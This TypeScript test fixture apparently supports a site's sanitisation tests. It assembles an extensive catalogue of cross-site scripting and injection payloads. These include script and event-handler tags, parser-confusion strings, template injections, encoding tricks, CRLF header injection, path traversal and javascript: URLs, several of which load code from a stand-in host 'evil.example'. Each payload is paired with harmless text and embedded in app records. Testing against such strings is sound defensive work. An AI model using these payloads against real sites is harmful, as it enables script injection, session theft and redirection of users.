import { parseInlineLinks, unfinishedLink } from "~/domain/items/inline-links";
import type { Item } from "~/domain/items/item";
import { documentOf } from "~/domain/items/document";
import { limits } from "~/domain/limits";

/**
 * Texts that try to become more than text: each would open a dialog and leave a mark, ask another host, or add an
 * element or attribute. Each is made for one context: WHATWG HTML's parser and its differences to XML, our inline
 * links, i18next, JSON, CSS, headers, addresses. None is longer than a name may be, none holds half a character.
 */
export interface Payload {
  text: string;
  /** what is read of it where inline links are links */
  shown: string;
  /** words of the same shape: with the same line breaks, and a link where the payload rightly is one */
  harmless: string;
}

/** Whether a record holds harmless words or payloads. */
export type Way = "harmless" | "text";

/** What the payloads do where they get through: a dialog, and a mark on the window. */
const act = "alert(__hit=1)";
const image = `<img src=x onerror=${act}>`;
const script = `<script>${act}</script>`;
/** The host that some ask. */
const host = "evil.example";

/** By what they are, or what they get out of; a row holds one kind. */
const families: Record<string, readonly string[]> = {
  scripts: [
    ...[script, `<SCRIPT>${act}</SCRIPT>`, `<scr<script>ipt>${act}</scr</script>ipt>`, `<script/x>${act}</script/x>`],
    ...[`<script\f>${act}</script\f>`, `<script\n>${act}</script\n>`, `<script>${act}`, `<<script>${act}//<</script>`],
    ...[`<script src=//${host}/x.js></script>`, `<script src="data:text/javascript,${act}"></script>`],
    ...[`<script type=module>import "//${host}/x.js"</script>`, `<script nonce="">${act}</script>`],
    ...[`<script type=importmap>{"imports":{"/":"//${host}/"}}</script>`, `<noscript>${script}</noscript>`],
    ...[`<svg><script href="data:,${act}"/>`, `<svg><script>&#97;lert(1)</script>`, `<math><script>${act}</script>`],
    `<script type=speculationrules>{"prefetch":[{"urls":["//${host}/"]}]}</script>`,
  ],
  "elements that run something by themselves": [
    ...["img src=x onerror", "svg onload", "body onload", "iframe onload", "frameset onload", "style onload"],
    ...["video><source onerror", "audio src=x onloadstart", "object data=x onerror", "embed src=x onload"],
    ...["link rel=stylesheet href=x onerror", "details open ontoggle", "marquee onstart", "input autofocus onfocus"],
    ...["a href=# autofocus onfocus", "p tabindex=0 autofocus onfocus", "x-x contenteditable autofocus onfocus"],
    ...["svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin"],
  ].flatMap((start) => [
    `<${start}=${act}>`,
    `<${start.replaceAll(" ", "/")}="${act}"//`,
    `<${start.toUpperCase().replaceAll(" ", "\n")}='${act}' `,
  ]),
  "out of an attribute": ['"', "'", "`", '\\"', "&quot;", "&#x27;", "%22", "\uff02"].flatMap((quote) => [
    `${quote} onfocus=${act} autofocus x=${quote}`,
    `${quote}>${image}`,
    `${quote}/>${script}<x y=${quote}`,
    `${quote};${act};//${quote}`,
    `x${quote}style=animation-name:x onanimationstart=${act}//`,
  ]),
  "out of the element that they stand in": [
    ...["title", "textarea", "style", "script", "noscript", "xmp", "iframe", "noembed", "noframes", "option", "select"],
    ...["template", "svg", "math", "table", "a", "button", "h1", "p", "head", "body", "html", "form", "dialog"],
  ].flatMap((name) => [`</${name}>${image}`, `</${name.toUpperCase()}\t/x>${script}<${name}>`]),
  "out of a comment, or into one": [
    ...[`-->${image}`, `--!>${image}`, `<!-->${image}-->`, `<!--->${image}`, `<!--${image}`, `<!--<script>${act}-->`],
    ...[`<![CDATA[${image}]]>`, `]]>${image}`, `<svg><![CDATA[><${image}]]></svg>`, `<?x ${image}?>`, `<!x>${image}`],
    ...[`</ ${image}`, `<!DOCTYPE x [<!ENTITY y "${image}">]>&y;`, `<![if IE]>${image}<![endif]>`],
  ],
  "out of JSON in a script, and out of a script's own words": [
    ...[`"}</script>${script}`, `</script\t>${image}`, `<\\/script>${image}`, `\u2028${act}\u2029//`, `"-${act}-"`],
    ...[`"};${act};({"x":"`, `\\"};${act}//`, `\\\\"};${act}//`, `'+${act}+'`, "\\", '\\"', `*/${act}`, "\\x3cimg>"],
    ...[`\\u003c/script\\u003e${script}`, `\\u0022};${act}//`, `{"__proto__":{"onload":"${act}"}}`],
    ...[`<!--<script>"}${image}`, `\`-${act}-\``],
  ],
  "words of a template": [
    ...["{{constructor.constructor('alert(__hit=1)')()}}", "{{7*7}}", `{{- "${image}"}}`, "{{customerName}}"],
    ...["{{- name}}", "{{count}}", "{{name, uppercase}}", "{{__proto__}}", "$t(quote.greeting)", "$t(footer.heading)"],
    ...['$t(notFound.text, {"count": 1})', "$t(admin:lists.quotes.heading)", "$t($t(footer.heading))", `\${${act}}`],
    ...["#{7*7}", "<%= 7*7 %>", "{% raw %}", "[[7*7]]", "@{7*7}", "$&$&", "$1$2", "$`", "$'", "$$", "%s%d%o%c", "%n"],
    ...["__proto__", "constructor", "toString", "hasOwnProperty", "<0>x</0>", "<Trans>x</Trans>", "null"],
  ],
  styles: [
    ...[`<style>@import "//${host}/x.css"</style>`, `<link rel=stylesheet href=//${host}/x.css>`],
    ...[`<style>*{background:url(//${host}/x)}</style>`, `<p style="background:url(//${host}/x)">`],
    ...[`<p style=position:fixed;inset:0;z-index:9>`, `;background:url(javascript:${act})`, `@import'//${host}'`],
    ...["}*{display:none}", "<style>body{display:none}", `x:expression(${act})`, `\\3c script\\3e ${act}`],
  ],
  "what HTML, SVG and MathML read differently, also when what was read is written and read again": [
    ...[`<svg></p><style><a id="</style>${image}">`, `<select><template>${image}`, `<table><td>${image}`],
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${act}&gt;">`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${image}">`,
    ...[`<noscript><p title="</noscript>${image}">`, `<listing>&lt;img src=x onerror=${act}&gt;</listing>`],
    ...[`<xmp><p title="</xmp>${image}">`, `<svg><title><style></title>${image}`, `<p><svg><p>${image}`],
    ...[`<svg><desc><table>${image}`, `<svg><foreignObject><iframe srcdoc="${script}">`, `<plaintext>${image}`],
    ...[`<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x">`, `<math href=javascript:${act}>press</math>`],
    ...[`<svg><a xlink:href=javascript:${act}><text y=20>press`, `<math><annotation-xml encoding="text/html">${image}`],
    `<svg><animate attributeName=href values=javascript:${act} /><a><text>press`,
    ...[`<math><maction xlink:href=javascript:${act}>press`, `<template shadowrootmode=open>${image}</template>`],
  ],
  "the same letters in other dress: entities, percent, UTF-7, overlong UTF-8, look-alikes, what is not seen": [
    ...["&lt;img src=x onerror=alert(1)&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&#x3c;script>"],
    ...["&#0000060script>", "&#60script&#62", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E"],
    ...["%u003Cscript%u003E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)"],
    ...["%c0%bcscript%c0%be", "\u00bcscript\u00be", "\uff1cscript\uff1e", "\ufe64script\ufe65", "\u2039script\u203a"],
    ...["<\u0338script>", "<\u017fcript>", "<scr\u0131pt>", "\u560a\u560d<script>", `<\0script>${act}`],
    ...[`<scr\0ipt>${act}</scr\0ipt>`, `<img\0src=x onerror=${act}>`, `<img src=x onerror\0=${act}>`],
    ...[`\ufeff${image}`, `\u202e${image}\u202c`, `\u2066${script}\u2069`, `<im\u200dg src=x onerror=${act}>`],
    ...[`${image}\u{e0041}`, `\u0008\u007f\u0085${image}`, `\u000b${image}\u000c`, `\u0001\u001b[31m${image}`],
    ...[`\ufffd${image}\uffff`, "\u{1f334}<\u{10ffff}>", "a\u0300\u0301\u0302<b>", "&", "&#0;", "&#xd800;", "&lt"],
    ...["<", ">", "<>", "</>", "&nbsp;<b>", "\ud7ff<i>"],
  ],
  "out of a header or the name of a file, and out of a text in a PDF": [
    ...["x\r\nSet-Cookie: hit=1", "x\nLocation: //evil.example", "x\rX-Hit: 1", `x\r\n\r\n${script}`],
    ...["x%0d%0aSet-Cookie:%20hit=1", `.html"; filename*=UTF-8''x.html`, "../../etc/passwd", "..\\..\\x.exe"],
    ...["x.pdf\0.html", "CON", "x; filename=y.html", "\u2028x: y", "\\)>>endobj", "endstream endobj xref"],
    ...[")/OpenAction<</S/JavaScript/JS(app.alert(1))>>(", "]/AA<</O<</S/Launch>>>>["],
  ],
  "elements without a script that lead elsewhere, send something away, or take the name of something of ours": [
    ...[`<base href=//${host}/>`, `<meta http-equiv=refresh content="0;url=//${host}">`, `<iframe srcdoc="${script}">`],
    ...[`<meta http-equiv=Content-Security-Policy content="default-src *">`, `<iframe src=javascript:${act}>`],
    ...["<b>bold", `<form action=//${host}><button>press`, `<button form=log-out formaction=//${host}>`],
    ...["<input name=csrf type=hidden", `<img srcset=//${host}/x>`, `<video poster=//${host}/x>`],
    ...[`<body background=//${host}/x>`, `<a ping=//${host} href=/>`, `<object data="data:text/html,${script}">`],
    ...[`<embed src=//${host}/x.swf>`, `<link rel=prefetch href=//${host}/>`, "<img id=download>"],
    ...["<form id=language><input name=close>", "<a id=__remixContext href=x:y>", "<p data-island=strip>"],
    ...[`<dialog open>${image}</dialog>`, "<p popover id=menu>", "<h1>Another heading</h1>"],
  ],
  "addresses that nobody should be led to by a press": [
    ...[`javascript:${act}`, `javascript://${host}/%0a${act}`, `javascript:/*--></title></style>*/${act}`],
    ...[`JaVaScRiPt:${act}`, ` javascript:${act}`, `\u0001javascript:${act}`, `java\tscript:${act}`],
    ...[`java\nscript:${act}`, `java\0script:${act}`, `javascript\u00a0:${act}`, `&#106;avascript:${act}`],
    ...[`java&Tab;script:${act}`, `javascript&colon;${act}`, `javascript%3a${act}`, `javascript\uff1a${act}`],
    ...[`\ufeffjavascript:${act}`, `view-source:javascript:${act}`, `feed:javascript:${act}`, "vbscript:msgbox(1)"],
    ...[`data:text/html,${script}`, `DATA:text/html,${image}`, `data:application/xhtml+xml,${script}`],
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${act}'/>`,
    ...["data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `blob:https://${host}/x`, "file:///etc/passwd"],
    ...[`//${host}/x`, `/\\${host}/x`, `\\\\${host}\\x`, `/\t/${host}/x`, `///${host}/x`, `https:${host}`],
    ...[`https:////${host}`, `/.//${host}`, `/a/..//${host}`, `https://${host}\\@localhost/`],
  ].flatMap((address) => [address, `#[press|${address}]`, `<a href="${address}">press</a>`]),
};

/** Inline links, whose labels and addresses try to be more than that. */
const links = [
  ...[`${image}|/tours`, `"onfocus=${act}//|/tours`, "{{name}}$t(footer.heading)|/tours", `</a>${script}|/tours`],
  ...[`x|/tours"onfocus=${act}//`, `x|/tours'><img/src=x/onerror=${act}>`, `x|/tours?a="><svg/onload=${act}>&b='`],
  ...[`x|/tours#"onclick=${act}`, "x|/quote/{{name}}?q=$t(footer.heading)", "x|/javascript:alert(1)"],
  ...["x|/%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", `x|/homes?lang=<script>`, "x|/tours?lang=en&lang=<b>"],
  ...[`\u202ex\u202c|/tours`, `x|https://${host}/"onmouseover="${act}`, `x|https://user:pass@${host}/<script>`],
  ...[`x|HTTPS://${host}#javascript:${act}`, `x|mailto:a@b"onclick="${act}`, `x|tel:+39(0)31-0000.142`],
  "x|mailto:a@b?subject=&body=%0d%0aBcc:c",
];

/** All of them, their line breaks as they are stored. */
export const payloads: readonly Payload[] = [
  ...Object.values(families)
    .flat()
    .map((text) => text.replace(/\r\n?/g, "\n"))
    .map((text) => ({ text, shown: text, harmless: text.replace(/[^\n]+/g, wordsLike) })),
  ...links.map((link) => ({
    text: `#[${link}]`,
    shown: link.replace(/\|.*/, ""),
    harmless: `#[Word|${/\|\//.test(link) ? "/tours" : "tel:+1"}]`,
  })),
];

/** Gives a line of the same shape: a word, as many addresses, and an unfinished link where the line has one. */
function wordsLike(line: string): string {
  const addresses = parseInlineLinks(line).filter((part) => typeof part !== "string");
  const words = ["Word", ...addresses.map(() => "https://word.example")];
  return [...words, ...(unfinishedLink(line) === null ? [] : ["#[Word|word:]"])].join(" ");
}

/** Payloads behind one another, each whole, in as few texts as have room for them in `length` characters each. */
export function packed(length: number, between = " "): Payload[] {
  const packs: Payload[] = [];
  for (const each of payloads) {
    const last = packs.at(-1);
    if (last && last.text.length + between.length + each.text.length <= length) {
      for (const way of ["text", "shown", "harmless"] as const) last[way] += between + each[way];
    } else packs.push({ ...each });
  }
  return packs;
}

/** The payloads in as few names as hold them. A name can't contain NUL. */
export const names = packed(limits.name).map(({ text, shown, harmless }) => ({
  ...{ text: text.replaceAll("\0", ""), shown: shown.replaceAll("\0", "") },
  harmless: harmless.replaceAll("\0", ""),
}));

/** The payloads in one text, each on a line or more. */
export const everything = packed(limits.text, "\n")[0] ?? { text: "", shown: "", harmless: "" };

/** The address of a picture with a payload in it, as far as a path on this site may have one. */
export function pictureWith(words: string): string {
  return `/images/${words.replace(/[\p{Cc}\s\\]/gu, "")}`;
}

/** A quote, shown as a tour, with a payload in each field. */
export function quoteOf(name: Payload, way: Way) {
  const words = name[way];
  return {
    ...{ name: words, customerName: words, display: true },
    ...{ displayDescription: words, displayCover: pictureWith(words) },
  };
}

/** A quote with all payloads in each kind of item: as texts alone, and together as far as there is room. */
export function wholeQuoteOf(way: Way) {
  const items: Item[] = [
    ...fewItems(way),
    ...payloads.map((each): Item => ({ type: "text", text: each[way], size: "md" })),
    { type: "interruption" },
  ];
  const name = names[0] ?? everything;
  return { ...quoteOf(name, way), displayDescription: everything[way], items: items.map(documentOf) };
}

/** All payloads in each kind of item, in few of them. */
export function fewItems(way: Way): Item[] {
  const titles = packed(limits.shortText).map((each) => each[way]);
  return [
    ...titles.map((title): Item => ({ type: "title", title1: title, title2: title, size: "md" })),
    ...titles.map((title3): Item => ({ type: "title3", title3, size: "lg" })),
    { type: "slider", images: names.map((name) => pictureWith(name[way])) },
    { type: "slider", images: [pictureWith(names[0]?.[way] ?? "")] },
    { type: "text", text: everything[way], size: "sm" },
  ];
}
